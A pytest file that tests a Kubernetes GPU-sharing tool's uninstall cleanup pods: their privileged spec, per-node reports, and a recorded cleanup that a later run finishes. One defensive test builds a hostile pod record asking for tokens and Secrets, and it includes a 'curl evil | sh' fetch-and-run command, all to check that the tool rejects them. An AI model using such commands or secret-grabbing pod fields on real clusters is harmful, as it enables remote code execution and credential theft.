"""``kubectl gpushare uninstall``'s host cleanup pods (``ops/hostcleanup.py``) against the
API server double, whose kubelet stand-in (tests/kit/cleanup_kubelet.py) ends each pod
with the report given: the pod made from the installed DaemonSet, what the operator is
told per node, the record of an unfinished cleanup and the later run that finishes it."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from kit.cleanup_kubelet import CLEAN_REPORT, CleanupKubelet
from kit.kube_double import KubeApiDouble

from gpushare.config import Settings
from gpushare.ops import deploy, hostcleanup
from gpushare.ops.kubectl import main

OBJECTS = deploy.load_objects()
(DAEMONSET,) = [obj for obj in OBJECTS if obj["kind"] == "DaemonSet"]
PREFIX = Settings().resource_prefix
RECORD = hostcleanup.record_key(PREFIX)
KEPT_REPORT: dict[str, Any] = {
    "removed": 4,
    "unmounted": [],
    "host_dir_removed": False,
    "kept": {"/usr/local/vgpu/containers/c-" + "1" * 20: "its container is running"},
    "failed": {},
}


@pytest.fixture
def api(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[KubeApiDouble]:
    double = KubeApiDouble()
    double.start()
    double.add({"kind": "Node", "apiVersion": "v1", "metadata": {"name": "gpu-a", "labels": {}}})
    monkeypatch.setenv("KUBECONFIG", str(double.kubeconfig(tmp_path / "kubeconfig")))
    monkeypatch.delenv("KUBERNETES_SERVICE_HOST", raising=False)
    yield double
    double.stop()


def test_the_cleanup_pod_is_the_daemonsets_own_template_privileged_on_the_host() -> None:
    spec = hostcleanup.pod_spec(DAEMONSET)
    (container,) = spec["containers"]
    daemon = DAEMONSET["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == daemon["image"] and container["env"] == daemon["env"]
    assert container["command"] == ["python", "-m", "gpushare.node.hostsweep"]
    assert container["args"][-len(daemon["args"]) - 1 :] == ["--", *daemon["args"]]
    assert container["securityContext"] == {"privileged": True}
    mounts = {m["name"]: m for m in container["volumeMounts"]}
    # the init container's Bidirectional hostPath: the tmpfs is unmounted on the host
    assert mounts["host-lib"]["mountPropagation"] == "Bidirectional"
    assert mounts["pod-resources"]["readOnly"] is True
    volumes = {v["name"]: v for v in spec["volumes"]}
    assert volumes[hostcleanup.PARENT_VOLUME]["hostPath"]["path"] == "/usr/local"
    assert f"--host-lib-parent={hostcleanup.PARENT_MOUNT}" in container["args"]
    assert spec["hostNetwork"] is True and spec["restartPolicy"] == "Never"
    assert spec["automountServiceAccountToken"] is False
    assert spec["tolerations"] == [{"operator": "Exists"}]
    assert (
        hostcleanup.pod_spec(DAEMONSET, "registry.example/gpushare:9")["containers"][0]["image"]
        == "registry.example/gpushare:9"
    )


def test_the_node_pod_names_the_claims_in_use_or_that_they_are_not_known() -> None:
    template = hostcleanup.Template("kube-system", hostcleanup.pod_spec(DAEMONSET))
    pod = hostcleanup.node_pod(template, "gpu-a", ["u1", "u2"])
    assert pod["spec"]["nodeName"] == "gpu-a" and pod["metadata"]["namespace"] == "kube-system"
    assert pod["spec"]["containers"][0]["args"][0] == "--held-claims=u1,u2"
    unknown = hostcleanup.node_pod(template, "gpu-a", None)
    assert unknown["spec"]["containers"][0]["args"][0] == "--claims-unknown"
    assert "--claims-unknown" not in template.spec["containers"][0]["args"]  # not changed


def _claim(uid: str, node: str, reserved: bool) -> dict[str, Any]:
    result = {"driver": "gpu.gpushare.io", "pool": node, "device": "gpu-0", "request": "r"}
    status: dict[str, Any] = {"allocation": {"devices": {"results": [result]}}}
    if reserved:
        status["reservedFor"] = [{"resource": "pods", "name": "p", "uid": "x"}]
    return {
        "kind": "ResourceClaim",
        "apiVersion": "resource.k8s.io/v1",
        "metadata": {"name": uid, "namespace": "default", "uid": uid},
        "status": status,
    }


def test_the_claims_in_use_are_those_of_our_driver_on_the_node_reserved_for_a_pod(
    api: KubeApiDouble,
) -> None:
    from gpushare.kube.kubectlapi import Cluster

    api.add(_claim("held", "gpu-a", True))
    api.add(_claim("allocated-only", "gpu-a", False))
    api.add(_claim("elsewhere", "gpu-b", True))
    assert hostcleanup.held_claims(Cluster(), "gpu-a", "gpu.gpushare.io") == ["held"]
    assert hostcleanup.held_claims(Cluster(), "gpu-a", "other.example") == []


def test_a_cleanup_that_keeps_is_recorded_and_the_next_uninstall_finishes_it(
    api: KubeApiDouble, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["install", "--node", "gpu-a"]) == 0
    capsys.readouterr()
    with CleanupKubelet(api, KEPT_REPORT).running() as kubelet:
        assert main(["uninstall", "--all", "--wait", "0"]) == 0
    out = capsys.readouterr().out
    assert "cleaning the host of gpu-a" in out
    assert (
        f"kept on gpu-a: /usr/local/vgpu/containers/c-{'1' * 20}: its container is running" in out
    )
    assert "gpu-a keeps what running GPU containers hold: run uninstall again" in out
    (pod,) = kubelet.seen
    assert pod["spec"]["nodeName"] == "gpu-a"
    assert api.get("Pod", pod["metadata"]["name"], "kube-system") is None  # deleted
    record = json.loads(api.get("Node", "gpu-a")["metadata"]["annotations"][RECORD])  # type: ignore[index]
    assert record["spec"]["containers"][0]["image"] == pod["spec"]["containers"][0]["image"]
    assert all(api.get(o["kind"], o["metadata"]["name"], o["metadata"].get("namespace"),
                       o["apiVersion"]) is None for o in OBJECTS)  # fmt: skip

    # the containers ended: uninstall again (--all finds the node by its record), with
    # the DaemonSet gone: the recorded pod spec runs
    with CleanupKubelet(api, CLEAN_REPORT).running() as kubelet:
        assert main(["uninstall", "--all", "--wait", "0"]) == 0
    out = capsys.readouterr().out
    assert "nothing of gpushare is left on gpu-a's host" in out
    (again,) = kubelet.seen
    assert again["spec"]["containers"][0]["image"] == pod["spec"]["containers"][0]["image"]
    assert RECORD not in (api.get("Node", "gpu-a")["metadata"].get("annotations") or {})  # type: ignore[index]
    assert main(["uninstall", "--all", "--wait", "0"]) == 0
    assert "nothing to remove" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("exit_code", "report", "said"),
    [
        (3, {"error": "the kubelet's PodResources cannot be read: nothing removed"},
         "PodResources cannot be read"),
        (1, "not json", "exit 1, no report"),
        (1, {"removed": 1, "unmounted": [], "kept": {},
             "failed": {"/usr/local/vgpu/mps/shm": "not unmounted: Operation not permitted"}},
         "failed on gpu-a: /usr/local/vgpu/mps/shm: not unmounted"),
    ],
)  # fmt: skip
def test_a_cleanup_that_did_not_report_or_failed_exits_3_and_is_recorded(
    api: KubeApiDouble,
    capsys: pytest.CaptureFixture[str],
    exit_code: int,
    report: Any,
    said: str,
) -> None:
    assert main(["install", "--node", "gpu-a"]) == 0
    kubelet = CleanupKubelet(api, report, exit_code)
    if not isinstance(report, dict):
        kubelet.message = report
    with kubelet.running():
        assert main(["uninstall", "--node", "gpu-a", "--wait", "0"]) == 3
    out = capsys.readouterr().out
    assert said in out and ("did not finish" in out or "not everything could be removed" in out)
    assert RECORD in (api.get("Node", "gpu-a")["metadata"].get("annotations") or {})  # type: ignore[index]


def test_keep_host_runs_no_cleanup_pod(api: KubeApiDouble) -> None:
    assert main(["install", "--node", "gpu-a"]) == 0
    with CleanupKubelet(api, CLEAN_REPORT).running() as kubelet:
        assert main(["uninstall", "--all", "--wait", "0", "--keep-host"]) == 0
    assert kubelet.seen == [] and not api.calls("POST", "/pods")


def test_a_hostile_record_runs_only_what_a_cleanup_pod_may_carry() -> None:
    """The record is a Node annotation that the node's kubelet or the daemon's account can
    write: a record asking for a service account's token, a Secret's values, another node,
    a second container or a secret volume runs none of it; the cleanup command itself is
    required; ``--image`` replaces the recorded image."""
    good = hostcleanup.pod_spec(DAEMONSET)
    hostile = json.loads(json.dumps(good))
    hostile.update(
        serviceAccountName="clusterrole-aggregator",
        automountServiceAccountToken=True,
        nodeName="another-node",
        imagePullSecrets=[{"name": "registry-key"}],
        initContainers=[{"name": "x", "image": "evil"}],
    )
    hostile["volumes"].append({"name": "tok", "secret": {"secretName": "admin-token"}})
    main = hostile["containers"][0]
    main["envFrom"] = [{"secretRef": {"name": "admin-token"}}]
    main["env"].append({"name": "T", "valueFrom": {"secretKeyRef": {"name": "a", "key": "b"}}})
    main["volumeMounts"].append({"name": "tok", "mountPath": "/tok"})
    node = {"metadata": {"annotations": {RECORD: json.dumps({"namespace": "kube-system",
                                                             "spec": hostile})}}}  # fmt: skip
    template = hostcleanup.recorded(node, PREFIX)
    assert template is not None and template.namespace == "kube-system"
    spec = dict(template.spec)
    for key in ("serviceAccountName", "nodeName", "imagePullSecrets", "initContainers"):
        assert key not in spec, key
    assert spec["automountServiceAccountToken"] is False
    assert all("hostPath" in v for v in spec["volumes"])
    (container,) = spec["containers"]
    assert "envFrom" not in container
    assert all("secretKeyRef" not in json.dumps(e) for e in container["env"])
    assert {m["name"] for m in container["volumeMounts"]} <= {v["name"] for v in spec["volumes"]}
    # what the installed DaemonSet's own cleanup pod carries comes through unchanged
    env_of = {e["name"]: e for e in good["containers"][0]["env"]}
    assert all(env_of[e["name"]] == e for e in container["env"])
    assert container["args"] == good["containers"][0]["args"]
    assert container["image"] == good["containers"][0]["image"]
    assert hostcleanup.recorded(node, PREFIX, "reg/gpushare:2").spec["containers"][0][  # type: ignore[union-attr]
        "image"
    ] == "reg/gpushare:2"
    # not the cleanup command, another namespace shape, or not a spec: no record at all
    other = json.loads(json.dumps(good))
    other["containers"][0]["command"] = ["sh", "-c", "curl evil | sh"]
    for namespace, body in (("kube-system", other), ("Bad_NS", good), ("kube-system", [1])):
        text = json.dumps({"namespace": namespace, "spec": body})
        assert hostcleanup.recorded({"metadata": {"annotations": {RECORD: text}}}, PREFIX) is None
